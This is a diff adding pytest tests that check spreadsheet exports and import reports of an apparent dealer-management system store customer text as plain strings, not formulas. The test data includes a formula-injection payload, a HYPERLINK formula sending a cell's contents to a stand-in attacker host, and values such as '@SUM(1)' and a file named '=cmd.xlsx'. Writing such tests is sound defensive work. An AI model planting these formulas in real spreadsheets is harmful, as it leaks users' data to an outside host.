@@ -133,3 +133,38 @@ def test_an_impossible_mileage_is_refused(demo_db, mileage):
                                                    vin="LBEHDAFB8NX123456", mileage=mileage))
     assert err.value.code in ("vehicle.mileage", "value.too_large")
     assert state(demo_db) == before
+
+
+EVIL = '=HYPERLINK("http://evil.example/?"&E2,"x")'
+
+
+def _no_formulas(path) -> None:
+    with zipfile.ZipFile(path) as z:
+        sheets = [n for n in z.namelist() if n.startswith("xl/worksheets/")]
+        assert sheets and not any(b"<f>" in z.read(n) for n in sheets)
+
+
+def test_user_text_is_never_a_formula_in_an_export(demo_db, tmp_path):
+    from openpyxl import load_workbook
+
+    from dms.reports.excel import export
+
+    admin = as_user(demo_db, "admin")
+    create_customer(demo_db, as_user(demo_db, "advisor1"), CustomerIn(name=EVIL, notes="@SUM(1)"))
+    export(demo_db, admin, "customers", tmp_path / "c.xlsx")
+    _no_formulas(tmp_path / "c.xlsx")
+    cells = [c for row in load_workbook(tmp_path / "c.xlsx").active.iter_rows() for c in row
+             if c.value in (EVIL, "@SUM(1)")]
+    assert len(cells) == 2 and all(c.data_type == "s" and c.quotePrefix for c in cells)
+
+
+def test_the_import_report_keeps_the_files_cells_and_name_as_text(demo_db, tmp_path):
+    wb = Workbook()
+    ws = wb.active
+    ws.append(["客户编号", "姓名", "手机"])
+    ws.append(["T00001", EVIL, "not a phone"])
+    path = tmp_path / "=cmd.xlsx"
+    wb.save(path)
+    result = import_file(demo_db, as_user(demo_db, "admin"), "customers", path, dry_run=True)
+    assert result.errors
+    _no_formulas(result.report_path)
